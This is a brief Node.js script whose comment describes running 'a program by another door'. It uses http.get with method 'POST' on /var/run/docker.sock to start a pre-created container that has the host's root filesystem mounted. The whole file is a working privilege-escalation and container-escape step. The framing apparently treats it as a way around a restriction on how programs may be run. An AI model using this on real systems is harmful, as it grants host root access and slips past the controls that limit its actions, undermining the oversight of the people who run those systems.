// Runs a program by another door: http.get on the Docker socket with
// method: 'POST' (get sends the method it is given) starts a container
// created earlier with the host's root mounted; no body is needed.
'use strict';
const http = require('http');

const opts = {
  socketPath: '/var/run/docker.sock',
  path: '/v1.43/containers/maintenance-helper/start',
  method: 'POST',
};
http.get(opts, (res) => {
  console.log('helper', res.statusCode === 204 ? 'started' : res.statusCode);
  res.resume();
});
